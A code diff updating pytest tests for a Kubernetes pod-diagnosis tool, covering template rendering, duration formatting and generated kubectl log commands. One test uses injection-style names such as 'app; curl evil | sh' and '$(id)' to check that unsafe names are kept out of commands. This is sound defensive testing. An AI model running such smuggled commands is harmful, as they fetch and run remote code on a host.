@@ -1,10 +1,12 @@
-"""Templates of sentences and what fills them."""
+"""Templates and what fills them."""
+
+from dataclasses import replace
 
 import pytest
 
 from pod_diagnoser.api.core_v1 import ContainerKind
 from pod_diagnoser.diagnosis.cause_rules import CAUSE_RULES
-from pod_diagnoser.diagnosis.phrases import PLACEHOLDERS, render
+from pod_diagnoser.diagnosis.phrases import PLACEHOLDERS, duration, render
 from pod_diagnoser.diagnosis.symptoms import Symptom, SymptomKind
 
 SYMPTOM = Symptom(
@@ -14,20 +16,19 @@ SYMPTOM = Symptom(
     namespace="shop",
     pod="app-1",
     container="app",
-    message="{pod} {0} {pod.__class__} {",
+    message="{pod} {0} [{describe}] {pod.__class__} {",
     exit_code=1,
 )
 
 
 def test_templates_are_filled_from_the_symptom() -> None:
-    """Each placeholder with its phrase, and braces that are doubled stay."""
-    text = "{Subject} of {namespace}/{pod} exited with {exit_code}, {{literally}}"
-    assert render(text, SYMPTOM) == "Container app of shop/app-1 exited with 1, {literally}"
+    """Each placeholder with its phrase."""
+    assert render("{Subject} exited with {exit_code}", SYMPTOM) == "Container app exited with 1"
 
 
 def test_braces_of_a_pod_are_no_placeholders() -> None:
     """What a Pod or a runtime says is never read as a template."""
-    assert render("{pod}{message}", SYMPTOM) == "app-1 ({pod} {0} {pod.__class__} {)"
+    assert render("said {message}", SYMPTOM) == ('said "{pod} {0} [{describe}] {pod.__class__} {"')
 
 
 def test_an_unknown_placeholder_is_an_error() -> None:
@@ -39,12 +40,56 @@ def test_an_unknown_placeholder_is_an_error() -> None:
 def test_all_templates_can_be_filled() -> None:
     """Every row of the table has placeholders that are known."""
     for rule in CAUSE_RULES:
-        for text in (rule.meaning, rule.next_step):
+        for text in (rule.diagnosis, rule.evidence, rule.next_step):
             assert render(text, SYMPTOM)
 
 
 def test_all_placeholders_are_used() -> None:
-    """One that no row needs is left over."""
-    templates = [text for rule in CAUSE_RULES for text in (rule.meaning, rule.next_step)]
-    used = "".join(text for text in templates if isinstance(text, str))
-    assert [name for name in PLACEHOLDERS if f"{{{name}}}" not in used] == []
+    """One that neither a row nor a choice needs is left over."""
+    whole = [
+        text if isinstance(text, str) else text(symptom)
+        for rule in CAUSE_RULES
+        for text in (rule.diagnosis, rule.evidence, rule.next_step)
+        for symptom in (SYMPTOM, replace(SYMPTOM, memory_limit="64Mi"))
+    ]
+    assert [name for name in PLACEHOLDERS if f"{{{name}}}" not in "".join(whole)] == []
+
+
+@pytest.mark.parametrize(
+    ("seconds", "written"),
+    [
+        (0, "under 1 s"),
+        (1, "1 s"),
+        (119, "119 s"),
+        (120, "2 min"),
+        (7199, "119 min"),
+        (7200, "2 h"),
+        (172_799, "47 h"),
+        (172_800, "2 days"),
+    ],
+)
+def test_a_duration_has_the_largest_unit_of_which_there_are_two(seconds: int, written: str) -> None:
+    """So that nobody has to divide."""
+    assert duration(seconds) == written
+
+
+def test_a_command_has_all_names_or_is_none() -> None:
+    """Only names that Kubernetes allows stand in a command."""
+    assert render("{logs}", SYMPTOM) == "kubectl logs -n shop app-1 -c app --previous"
+    assert render("{logs}", replace(SYMPTOM, final=True)) == "kubectl logs -n shop app-1 -c app"
+    for name in ("app; curl evil | sh", "app app", "", "App", "-o", "$(id)", "a\nb"):
+        for symptom in (
+            replace(SYMPTOM, namespace=name),
+            replace(SYMPTOM, pod=name),
+            replace(SYMPTOM, container=name),
+        ):
+            line = render("{logs}", symptom)
+            assert line == "look at the log of the container's previous run"
+
+
+def test_a_command_for_which_there_is_no_room_becomes_words() -> None:
+    """It is never cut."""
+    long = replace(SYMPTOM, pod="p" * 100)
+    assert render("see its last output: {logs}", long) == (
+        "see its last output: look at the log of the container's previous run"
+    )
